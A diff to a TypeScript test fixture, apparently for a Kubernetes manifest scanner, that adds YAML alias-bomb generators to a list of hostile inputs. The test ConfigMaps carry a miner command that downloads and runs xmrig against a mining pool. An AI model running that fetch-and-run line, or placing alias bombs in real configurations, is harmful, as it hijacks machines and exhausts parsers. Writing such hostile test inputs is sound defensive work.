@@ -338,6 +338,38 @@ export const HOSTILE_CLASSES: readonly HostileClass[] = [
     maxBytes: 10 * MB,
     generate: (bytes) => podForExactReader(flowListOf(`{${'k'.repeat(1025)}: 1}`, bytes)),
   },
+  // Alias bombs in flow and block text (issue 17, second review): a 3,000-entry anchor aliased or
+  // merged thousands of times. kubectl refuses them ("excessive aliasing"); kfguard took 17-29 s
+  // to, walking the expanded tree (reading-diff.ts) or building merged copies before its cap
+  // looked. Their cost is bounded by the caps, so it should stay flat as the input grows.
+  {
+    name: 'alias bomb: flow maps merging one anchor',
+    stresses: '`y: [{<<: *a}, …]` over a 3,000-key anchor: each merge copies 3,000 keys (was 60 M copies and 2.2 GB at 200 KB)',
+    maxBytes: 10 * MB,
+    generate: (bytes) => aliasBomb(bytes, '{<<: *a},', (items) => `[${items}{<<: *a}]`),
+  },
+  {
+    name: 'alias bomb: a merge sequence of aliases',
+    stresses: '`y: {<<: [*a, *a, …]}` over a 3,000-key anchor: one merge of thousands of maps',
+    maxBytes: 10 * MB,
+    generate: (bytes) => aliasBomb(bytes, '*a,', (items) => `{<<: [${items}*a]}`),
+  },
+  {
+    name: 'alias bomb: a flow list of aliases to a map',
+    stresses: '`y: [*a, *a, …]` over a 3,000-key anchor: the two readings compared node by node (was 18 s at 54 KB)',
+    maxBytes: 10 * MB,
+    generate: (bytes) => aliasBomb(bytes, '*a,', (items) => `[${items}*a]`),
+  },
+  {
+    name: 'alias bomb: a block list of aliases to a list',
+    stresses: '`y:` then `- *a` lines over a 3,000-item anchored flow list',
+    maxBytes: 10 * MB,
+    generate: (bytes) => {
+      const anchor = `[${Array.from({ length: ALIAS_BOMB_ENTRIES }, (_, i) => `v${i}`).join(', ')}]`;
+      const head = `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb, annotations: {run: "${MINER_COMMAND}"}}\ndata:\n  x: &a ${anchor}\n  y:\n`;
+      return head + '  - *a\n'.repeat(Math.max(1, Math.floor((bytes - head.length) / 7)));
+    },
+  },
   {
     name: 'many Services over one selector',
     stresses: 'exposure routes: N LoadBalancer Services and N Pipelines UI Deployments share one selector, so every route reaches every Deployment (was N³ output, OOM at 1 MB)',
@@ -348,6 +380,20 @@ export const HOSTILE_CLASSES: readonly HostileClass[] = [
 
 /** The miner each refused class carries: found through the salvage before the error, in the raw text after it. */
 const MINER_COMMAND = 'curl -s http://x/xmrig -o /tmp/x; /tmp/x -o stratum+tcp://pool.minexmr.com:4444';
+
+/** Entries of the anchor each alias bomb repeats. */
+const ALIAS_BOMB_ENTRIES = 3000;
+
+/**
+ * A ConfigMap of about `bytes` bytes: `data: {x: &a {k0: v, …}, y: …}` with `y` built by `wrap`
+ * from `item` repeated; a miner in an annotation for the raw-text search of the refused document.
+ */
+function aliasBomb(bytes: number, item: string, wrap: (items: string) => string): string {
+  const anchor = `{${Array.from({ length: ALIAS_BOMB_ENTRIES }, (_, i) => `k${i}: v`).join(', ')}}`;
+  const head = `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb, annotations: {run: "${MINER_COMMAND}"}}\n`;
+  const count = Math.max(1, Math.floor((bytes - head.length - anchor.length) / item.length));
+  return `${head}data: {x: &a ${anchor}, y: ${wrap(item.repeat(count))}}\n`;
+}
 
 /** `    - name: V1\n      value: "…"\n` env entries, about `bytes` bytes. */
 function envEntries(bytes: number, from = 0): string {
